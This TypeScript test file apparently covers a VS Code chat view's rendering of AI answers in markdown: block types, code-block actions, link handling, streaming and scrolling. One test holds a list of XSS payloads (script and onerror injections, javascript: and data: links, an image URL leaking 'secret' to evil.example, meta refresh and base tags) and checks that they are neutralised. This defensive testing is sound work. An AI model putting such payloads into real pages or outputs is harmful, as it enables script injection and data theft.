import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startViews, type View, type Views } from './page.ts';
import { longMarkdown } from './samples.ts';
import { answer, chat, question, started } from './states.ts';

let views: Views;
before(async () => {
  views = await startViews();
});
after(() => views.close());

async function show(markdown: string): Promise<View> {
  return views.open(chat({ messages: [question('u1', 'Hi'), answer('a1', markdown)] }));
}

test('every kind of block is drawn as what it is', async () => {
  const view = await show(longMarkdown);
  const article = view.page.getByRole('article', { name: 'MiMo' });
  const texts = (selector: string) => article.locator(selector).allTextContents();
  assert.deepEqual(await article.getByRole('heading', { level: 2 }).allTextContents(), ['How it works']);
  // The model skipped a level; assistive technology is not told so.
  assert.deepEqual(await article.getByRole('heading', { level: 3 }).allTextContents(), ['Steps']);
  assert.deepEqual(await texts('strong'), ['debounced']);
  assert.deepEqual(await texts('ol > li > ul > li'), ['clear the old one', 'set a new one']);
  assert.deepEqual(await texts('li.task'), ['☑ tested', '☐ documented']);
  assert.deepEqual(await texts('blockquote code'), ['throttle']);
  assert.deepEqual(await texts('tbody tr:first-child td'), ['debounce', 'at the end', 'search box', '120']);
  assert.equal(await article.locator('hr').count(), 1);
  assert.deepEqual(await texts('.code-language'), ['typescript', 'python', 'diff', 'json', 'html', 'css']);
  await article.locator('.hljs-keyword', { hasText: 'export' }).waitFor();
  assert.match((await texts('pre code'))[1] ?? '', /^def fib\(n: int\) -> int:\n {4}"""Return/);
  assert.deepEqual(await view.violations(), []);
  await view.close();
});

test('a code block has its three actions, which carry exactly its text', async () => {
  const view = await show('```python\nprint("a &amp; b")\n```');
  const code = 'print("a &amp; b")';
  const { page } = view;
  await page.getByRole('button', { name: 'Copy code' }).click();
  await page.getByRole('button', { name: 'Insert at cursor' }).click();
  await page.getByRole('button', { name: 'Open as new file' }).click();
  assert.deepEqual(await view.takePosted(), [
    { type: 'copy', text: code },
    { type: 'insertAtCursor', text: code },
    { type: 'openAsNewFile', text: code, language: 'python' },
  ]);
  await view.close();
});

test('Copy on an answer copies its markdown, on a question what was typed', async () => {
  const view = await show('**bold** text');
  await view.page.getByRole('article', { name: 'MiMo' }).getByRole('button', { name: 'Copy' }).click();
  await view.page.getByRole('article', { name: 'You' }).getByRole('button', { name: 'Copy' }).click();
  assert.deepEqual(await view.takePosted(), [
    { type: 'copy', text: '**bold** text' },
    { type: 'copy', text: 'Hi' },
  ]);
  await view.close();
});

test('links go to the host, with the mouse and the keyboard, and the page stays', async () => {
  const view = await show('[a &amp; b](https://example.com/x?a=1&amp;b=2) and https://example.org/y');
  const { page } = view;
  const address = page.url();
  // VS Code's frame opens what it hears of: the view must open a link once, not twice.
  await page.evaluate(() => {
    for (const type of ['click', 'auxclick']) {
      document.addEventListener(type, () => window.violations.push(`the frame heard a ${type}`));
    }
  });
  await page.getByRole('link', { name: 'a & b' }).click();
  await page.getByRole('link', { name: 'https://example.org/y' }).press('Enter');
  await page.getByRole('link', { name: 'a & b' }).click({ button: 'middle' });
  assert.deepEqual(await view.takePosted(), [
    { type: 'openLink', href: 'https://example.com/x?a=1&b=2' },
    { type: 'openLink', href: 'https://example.org/y' },
    { type: 'openLink', href: 'https://example.com/x?a=1&b=2' },
  ]);
  assert.equal(page.url(), address);
  assert.deepEqual(await view.violations(), []);
  assert.equal(page.context().pages().length, 2, 'no further page has been opened');
  await view.close();
});

const hostile = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 2">',
  'text <img src="https://evil.example/a.png" onerror="window.hacked = 3"> text',
  '<svg onload="window.hacked = 4"></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:window.hacked=5">raw</a>',
  '[js](javascript:window.hacked=6) [data](data:text/html,<script>window.hacked=7</script>)',
  '[entity](&#106;avascript:window.hacked=8) [tab](java&Tab;script:window.hacked=9)',
  '![secret](https://evil.example/?q=secret) ![](https://evil.example/pixel.gif)',
  '[![x](https://evil.example/b.png)](javascript:window.hacked=10)',
  '<style>body { background: url(https://evil.example/c) }</style>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<javascript:window.hacked=11> <https://ok.example>',
  '```"><img/src=x/onerror=window.hacked=12>\n</code></pre><script>window.hacked = 13</script>\n```',
  '| <script>window.hacked = 14</script> |\n|---|\n| ![t](https://evil.example/t.png) |',
  '[ref][1]\n\n[1]: javascript:window.hacked=15',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
].join('\n\n');

test('hostile markdown runs nothing, asks the network for nothing and breaks no rule of the page', async () => {
  const view = await show(hostile);
  const { page } = view;
  const article = page.getByRole('article', { name: 'MiMo' });
  await article.getByText('<iframe src="https://evil.example"></iframe>').waitFor();
  for (const link of await article.getByRole('link').all()) {
    assert.match((await link.getAttribute('href')) ?? '', /^https?:/);
    await link.click();
  }
  const tags = await article.evaluate((element) => [
    ...new Set(Array.from(element.querySelectorAll('.markdown *'), ({ localName }) => localName)),
  ]);
  for (const tag of ['script', 'img', 'iframe', 'form', 'style', 'meta', 'base']) {
    assert.ok(!tags.includes(tag), `${tag} was made`);
  }
  assert.equal(await page.evaluate(() => 'hacked' in window), false);
  assert.deepEqual(view.foreignRequests, []);
  assert.deepEqual(await view.violations(), []);
  // A picture is a link that says where it leads, so that loading it is the user's decision.
  await article.getByRole('link', { name: 'Image: secret' }).waitFor();
  await view.close();
});

test('hostile markdown that arrives in pieces is as harmless', async () => {
  const view = await views.open(chat({ messages: [question('u1', 'Hi')], streaming: started('a1') }));
  for (let start = 0; start < hostile.length; start += 37) {
    const piece = hostile.slice(start, start + 37);
    await view.page.evaluate(
      (text) => window.postMessage({ type: 'delta', time: 1, events: [{ type: 'text', text }] }, '*'),
      piece,
    );
  }
  await view.emit({ type: 'ended', time: 2, status: 'finished', finishReason: 'stop' });
  await view.page.getByText('<base href="https://evil.example/">').waitFor();
  assert.equal(await view.page.evaluate(() => 'hacked' in window), false);
  assert.deepEqual(view.foreignRequests, []);
  assert.deepEqual(await view.violations(), []);
  await view.close();
});

test('half a fence is drawn while it arrives, without actions until it is complete', async () => {
  const view = await views.open(chat({ messages: [question('u1', 'Hi')], streaming: started('a1') }));
  const code = view.page.locator('pre code');
  const pieces = [
    'Look:\n\n`',
    '``',
    'ty',
    'pescript',
    '\nconst',
    ' a = 1;\ncon',
    'st b',
    '\n``',
    '`\n\nDone',
  ];
  for (const text of pieces.slice(0, 7)) {
    await view.emit({ type: 'delta', time: 1, events: [{ type: 'text', text }] });
  }
  assert.equal(await code.textContent(), 'const a = 1;\nconst b');
  await view.page.locator('.hljs-keyword').first().waitFor();
  assert.equal(await view.page.getByRole('button', { name: 'Copy code' }).count(), 0);
  for (const text of pieces.slice(7)) {
    await view.emit({ type: 'delta', time: 1, events: [{ type: 'text', text }] });
  }
  assert.equal(await code.textContent(), 'const a = 1;\nconst b');
  await view.page.getByRole('button', { name: 'Copy code' }).waitFor();
  await view.close();
});

test('a code block that was cut off before its first line has no actions: there is nothing to act on', async () => {
  const cut = { ...answer('a1', 'Look:\n\n```typescri'), status: 'interrupted' as const };
  const view = await views.open(chat({ messages: [question('u1', 'Hi'), cut] }));
  await view.page.locator('.code-block').waitFor();
  assert.equal(await view.page.locator('.code-block').getByRole('button').count(), 0);
  await view.close();
});

test('code in an unknown language is plain', async () => {
  const view = await show('```klingon\nnuqneH\n```\n\n```js\nlet a\n```');
  await view.page.locator('.hljs-keyword').waitFor();
  assert.equal(await view.page.locator('pre').first().locator('span').count(), 0);
  await view.close();
});

test('a wide table and long code scroll inside themselves', async () => {
  const row = `| ${Array.from({ length: 12 }, (_, index) => `column${index}`).join(' | ')} |`;
  const table = `${row}\n|${'---|'.repeat(12)}\n${row}`;
  const view = await views.open(
    chat({
      messages: [
        question('u', 'x'.repeat(500)),
        answer('a', `${table}\n\n\`\`\`\n${'y'.repeat(500)}\n\`\`\`\n\n${'z'.repeat(500)}`),
      ],
    }),
    { width: 300 },
  );
  const wide = await view.page.evaluate(() =>
    Array.from(document.querySelectorAll('main *'))
      .filter(
        (element) =>
          element.scrollWidth > element.clientWidth + 1 && getComputedStyle(element).overflowX === 'auto',
      )
      .map((element) => element.className || element.localName),
  );
  assert.deepEqual(wide, ['table', 'pre']);
  assert.equal(await view.page.evaluate(() => document.documentElement.scrollWidth), 300);
  const log = await view.page
    .getByRole('log')
    .evaluate((element) => element.scrollWidth - element.clientWidth);
  assert.equal(log, 0);
  await view.close();
});
